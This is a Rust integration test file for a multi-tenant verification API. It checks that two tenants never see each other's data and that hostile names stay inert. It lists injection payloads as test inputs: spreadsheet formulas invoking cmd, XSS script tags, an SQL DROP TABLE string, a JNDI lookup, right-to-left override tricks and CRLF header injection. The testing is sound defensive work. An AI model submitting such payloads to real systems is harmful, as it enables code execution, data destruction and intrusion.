//! Two firms on one platform: neither hears of the other, by whatever way the platform speaks; and names that would be more than names.

#![allow(clippy::unwrap_used, reason = "a test stops where it cannot go on")]

mod support;

use reqwest::Method;
use serde_json::{Value, json};
use support::{Caller, Installation, Server, caller::and, free, until};
use warikan_testkit::{App, WebhookSink};

/// A firm, what is its own, and all that it was told.
struct Firm {
    caller: Caller,
    sink: WebhookSink,
    /// Whatever names it, its things and its customers.
    own: Vec<(String, String)>,
    told: Vec<(String, Vec<u8>)>,
}

const CONFIG: &str = "json_logs = true\n[revocation]\nsync_period_seconds = 1\n[webhooks]\nallow_loopback_http_in_sandbox = true\n";

impl Firm {
    async fn new(server: &Server, operator: &Caller, name: &str) -> Self {
        let tenant = operator.take_on(name).await;
        let path = format!("/v1/operator/tenants/{tenant}/credentials");
        let wanted = json!({ "environment": "sandbox", "scopes": ["verifications", "subjects", "watches", "campaigns", "events", "webhooks", "billing", "access"] });
        let made = operator.post(&path, &wanted).await.expect(201).clone();
        let mut firm = Self {
            caller: server.anyone().with(&made).await,
            sink: WebhookSink::start().await,
            own: Vec::new(),
            told: Vec::new(),
        };
        firm.owns("tenant", &json!(tenant));
        firm.owns("name", &json!(name));
        firm.owns("credential", &made["client_id"]);
        firm
    }

    fn owns(&mut self, what: &str, text: &Value) {
        let text = text.as_str().unwrap().to_owned();
        assert!(text.len() > 4, "{what} would be found anywhere");
        self.own.push((what.to_owned(), text));
    }

    /// Makes one of everything, of a person of its own and of one whom the other firm knows as well.
    async fn at_work(&mut self, people: &[(&str, &Value)]) -> Vec<Value> {
        let endpoint = json!({ "url": self.sink.url });
        let made = self.caller.post("/v1/webhook-endpoints", &endpoint).await;
        let made = made.expect(201).clone();
        self.owns("endpoint", &made["id"]);
        let mut answers = Vec::new();
        for (reference, body) in people {
            let body = and(body, json!({ "watch": true, "subject_ref": reference }));
            let request = self.caller.keyed("/v1/verifications", reference, &body);
            let answer = App::read(request).await.expect(201).clone();
            for (what, text) in [
                ("verification", &answer["id"]),
                ("subject", &answer["subject"]["id"]),
                ("handle", &answer["certificate"]["handle"]),
                ("watch", &answer["watch"]["id"]),
            ] {
                self.owns(what, text);
            }
            self.owns("reference", &json!(reference));
            answers.push(answer);
        }
        let caller = self.caller.clone();
        let campaign = until("the watches to be there", async || {
            let watches = caller.all("/v1/watches").await;
            if watches.len() < people.len() {
                return None;
            }
            let new = json!({ "selector": "all" });
            Some(caller.post("/v1/campaigns", &new).await.expect(201)["id"].clone())
        })
        .await;
        self.owns("campaign", &campaign);
        let path = format!("/v1/campaigns/{}", campaign.as_str().unwrap());
        until("the campaign", async || {
            let state = caller.get(&path).await.expect(200)["state"].clone();
            (state == "completed").then_some(())
        })
        .await;
        let challenge = caller
            .post("/v1/challenges", &json!({ "purpose": "authentication" }))
            .await;
        self.owns("challenge", &challenge.expect(201)["id"]);
        for event in caller.feed().await {
            self.owns("event", &event["id"]);
        }
        answers
    }

    /// Asks everything that a tenant can ask, by its own ids and by the other's.
    async fn hears(&mut self, document: &Value, other: &[(String, String)]) {
        let names: Vec<String> = self
            .own
            .iter()
            .chain(other)
            .filter(|(what, _)| !["name", "reference"].contains(&what.as_str()))
            .map(|(_, text)| text.clone())
            .collect();
        for (path, item) in document["paths"].as_object().unwrap() {
            if path.starts_with("/v1/operator")
                || path.starts_with("/sandbox")
                || path.starts_with("/jlis")
            {
                continue;
            }
            for method in item.as_object().unwrap().keys() {
                let Ok(method) = method.to_uppercase().parse::<Method>() else {
                    continue;
                };
                // Whatever takes away is asked for the other's things alone.
                let reads = method == Method::GET;
                let names = if reads {
                    &names[..]
                } else {
                    &names[names.len() - other.len().min(names.len())..]
                };
                let asked: Vec<String> = if path.contains('{') {
                    names.iter().map(|name| filled(path, name)).collect()
                } else if reads {
                    vec![path.clone()]
                } else {
                    Vec::new()
                };
                for path in asked {
                    let request = self.caller.request(method.clone(), &path);
                    let request = if reads {
                        request
                    } else {
                        request.json(&json!({}))
                    };
                    let reply = App::read(request).await;
                    assert!(
                        reply.status.as_u16() < 500,
                        "{method} {path}: {}",
                        reply.status
                    );
                    let headers = format!("{:?}", reply.headers);
                    self.told.push((
                        format!("{method} {path}"),
                        [reply.body, headers.into_bytes()].concat(),
                    ));
                }
            }
        }
        for one in self.sink.received() {
            self.told.push(("a webhook".to_owned(), one.body.clone()));
        }
    }
}

/// A path with this text for each of its parameters.
fn filled(path: &str, text: &str) -> String {
    let part = |part: &str| {
        if part.starts_with('{') {
            text.to_owned()
        } else {
            part.to_owned()
        }
    };
    path.split('/').map(part).collect::<Vec<_>>().join("/")
}

fn found(octets: &[u8], text: &str) -> bool {
    octets
        .windows(text.len())
        .any(|part| part == text.as_bytes())
}

/// What is the other's must not be in what was told.
fn nothing_of(other: &Firm, whose: &str, told: &[(String, Vec<u8>)]) {
    for (place, octets) in told {
        for (what, text) in &other.own {
            // The certificate's person is a customer of both; what each calls it is its own.
            assert!(
                !found(octets, text),
                "{whose} was told {what} {text} in {place}: {}",
                String::from_utf8_lossy(octets)
            );
        }
    }
}

async fn nothing_in_the_metrics(ops: &str, firms: [&Firm; 2]) {
    let client = reqwest::Client::builder().no_proxy().build().unwrap();
    let metrics = client
        .get(format!("http://{ops}/metrics"))
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    assert!(found(&metrics, "warikan_http_request"));
    let metrics = [("the metrics".to_owned(), metrics.to_vec())];
    for firm in firms {
        nothing_of(firm, "whoever scrapes", &metrics);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn f010_f011_two_firms_never_hear_of_each_other() {
    let ops = free();
    let here = Installation::configured(&format!("{CONFIG}[ops]\nlisten = \"{ops}\"\n"));
    let server = here.serve().await;
    server.ready().await;
    let operator = server.operator().await;
    let anyone = server.anyone();
    let mut a = Firm::new(&server, &operator, "甲野証券株式会社").await;
    let mut b = Firm::new(&server, &operator, "乙川銀行株式会社").await;
    let mut bodies = Vec::new();
    for name in ["共有沢　一", "甲客　二", "乙客　三"] {
        let person = anyone.person(&json!({ "name": name })).await;
        bodies.push((person.clone(), anyone.sign(&person, "申込書").await));
    }
    until("the list to be known", async || {
        (a.caller.verify(&bodies[0].1).await["verdict"] == "valid").then_some(())
    })
    .await;
    let first = a
        .at_work(&[("A-common-1", &bodies[0].1), ("A-alone-22", &bodies[1].1)])
        .await;
    let second = b
        .at_work(&[("B-common-1", &bodies[0].1), ("B-alone-33", &bodies[2].1)])
        .await;
    // F010: one person, two firms, and nothing by which they could find out.
    let (one, other) = (&first[0], &second[0]);
    assert_eq!(one["attributes"]["name"], other["attributes"]["name"]);
    for pointer in ["/id", "/subject/id", "/certificate/handle", "/watch/id"] {
        let (one, other) = (
            one.pointer(pointer).unwrap(),
            other.pointer(pointer).unwrap(),
        );
        assert_ne!(one, other, "{pointer}");
    }
    assert_ne!(one["receipt"], other["receipt"]);
    let moved = json!({ "event": "move", "address": "東京都新宿区西新宿２－８－１" });
    anyone
        .post(&format!("/sandbox/persons/{}/events", bodies[0].0), &moved)
        .await
        .expect(200);
    anyone
        .post("/sandbox/publish-crl", &json!({}))
        .await
        .expect(200);
    for firm in [&a, &b] {
        until("the revocation to be told", async || {
            let told = firm.sink.received();
            told.iter()
                .any(|one| found(&one.body, "certificate.revoked"))
                .then_some(())
        })
        .await;
    }
    let document = anyone.get("/openapi.json").await.expect(200).clone();
    let (of_a, of_b) = (a.own.clone(), b.own.clone());
    a.hears(&document, &of_b).await;
    b.hears(&document, &of_a).await;
    assert!(
        a.told.len() > 300 && b.told.len() > 300,
        "{} answers",
        a.told.len()
    );
    nothing_of(&b, "A", &a.told);
    nothing_of(&a, "B", &b.told);
    nothing_in_the_metrics(&ops, [&a, &b]).await;
    let log = server.log();
    server.stop().await;
    for line in log.lines() {
        let of = |firm: &Firm| firm.own.iter().any(|(_, text)| line.contains(text));
        assert!(!(of(&a) && of(&b)), "one line of both: {line}");
    }
}

/// Names that are a formula, markup, a query, a look-up, or written from right to left.
const NAMES: [&str; 7] = [
    "=HYPERLINK(\"http://x/?\"&A1)",
    "+1+cmd|' /C calc'!A0",
    "＠SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "'; DROP TABLE tenant; --",
    "${jndi:ldap://127.0.0.1:9/a}{{7*7}}",
    "\u{202e}gnp.ex\u{2066}e\u{200b}",
];
/// Names that would be more than one line or more than text.
const CONTROLS: [&str; 5] = [
    "a\r\nSet-Cookie: x=1",
    "a\nb",
    "a\u{1b}[2J",
    "a\0b",
    "a\u{85}b",
];

fn each_line_is_one_event(log: &str) {
    for line in log.lines() {
        let event: Value =
            serde_json::from_str(line).unwrap_or_else(|_| panic!("no event: {line}"));
        assert!(
            event["timestamp"].is_string() && !line.contains(['\u{1b}', '\u{202e}']),
            "{line}"
        );
    }
}

/// Tenants of all these names, and the last one's caller.
async fn taken_on(operator: &Caller) -> Caller {
    for name in CONTROLS {
        let reply = operator
            .post("/v1/operator/tenants", &json!({ "name": name }))
            .await;
        let problem = reply.expect_problem(400, "invalid_request");
        assert_eq!(problem["errors"][0]["pointer"], "/name", "{name:?}");
    }
    let mut firm = None;
    for name in NAMES {
        let tenant = operator.take_on(name).await;
        let path = format!("/v1/operator/tenants/{tenant}");
        assert_eq!(
            operator.get(&path).await.expect(200)["name"],
            name,
            "unchanged"
        );
        let page = operator
            .request(Method::GET, &format!("{path}/filing"))
            .header("accept", "text/html");
        let page = App::read(page).await;
        let policy = page.headers["content-security-policy"].to_str().unwrap();
        assert!(
            policy.contains("default-src 'none'") && !policy.contains("unsafe-eval"),
            "{policy}"
        );
        let html = String::from_utf8(page.body).unwrap();
        assert!(
            !html.contains("<script") && !html.contains("<img"),
            "{html}"
        );
        firm = Some(operator.credential(&tenant, "sandbox").await);
    }
    firm.unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn f062_a_name_stays_a_name_wherever_it_is_shown() {
    let here = Installation::configured(CONFIG).with(
        "WARIKAN_LOG",
        "debug,warikan=trace,warikan_onboarding=trace,warikan_verification=trace",
    );
    let server = here.serve().await;
    server.ready().await;
    let operator = server.operator().await;
    let firm = taken_on(&operator).await;
    let listed = operator.all("/v1/operator/tenants").await;
    assert_eq!(listed.len(), NAMES.len());
    let people = server.anyone().population(NAMES.len()).await;
    for ((person, _), name) in people.iter().zip(NAMES) {
        let body = server.anyone().sign(person, "申込書").await;
        let body = and(&body, json!({ "subject_ref": name, "watch": true }));
        let verified = firm.verify(&body).await;
        assert_eq!(verified["subject"]["ref"], name, "unchanged");
        for control in CONTROLS {
            let refused = firm
                .post(
                    "/v1/verifications",
                    &and(&body, json!({ "subject_ref": control })),
                )
                .await;
            refused.expect_problem(400, "invalid_request");
        }
        // The card's owner dies: the campaign has something to tell of each.
        server
            .anyone()
            .post(
                &format!("/sandbox/persons/{person}/events"),
                &json!({ "event": "die" }),
            )
            .await
            .expect(200);
    }
    server
        .anyone()
        .post("/sandbox/publish-crl", &json!({}))
        .await
        .expect(200);
    let csv = changes(&firm).await;
    let rows: Vec<&str> = csv.split("\r\n").filter(|row| !row.is_empty()).collect();
    assert_eq!(rows.len(), 1 + NAMES.len(), "{csv}");
    for cell in rows
        .iter()
        .flat_map(|row| row.trim_matches('"').split("\",\""))
    {
        let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
        assert!(!formula, "a formula: {cell}");
    }
    for page in ["/docs/", "/problems/not_found"] {
        let request = server
            .anyone()
            .request(Method::GET, page)
            .header("accept", "text/html");
        let reply = App::read(request).await;
        assert!(
            reply.headers.contains_key("content-security-policy"),
            "{page}: {:?}",
            reply.headers
        );
    }
    let log = here.beside("serve.log");
    server.stop().await;
    each_line_is_one_event(&std::fs::read_to_string(log).unwrap());
}

/// The changes of a campaign over all that is watched, as a table.
async fn changes(firm: &Caller) -> String {
    until("every death to be known", async || {
        let watches = firm.all("/v1/watches").await;
        if watches.len() < NAMES.len() {
            return None;
        }
        let campaign = firm
            .post("/v1/campaigns", &json!({ "selector": "all" }))
            .await;
        let path = format!(
            "/v1/campaigns/{}",
            campaign.expect(201)["id"].as_str().unwrap()
        );
        until("the campaign", async || {
            let state = firm.get(&path).await.expect(200)["state"].clone();
            (state == "completed").then_some(())
        })
        .await;
        let request = firm.request(Method::GET, &format!("{path}/changes"));
        let reply = App::read(request.header("accept", "text/csv")).await;
        let csv = String::from_utf8(reply.body).unwrap();
        (csv.matches("\r\n").count() > NAMES.len()).then_some(csv)
    })
    .await
}
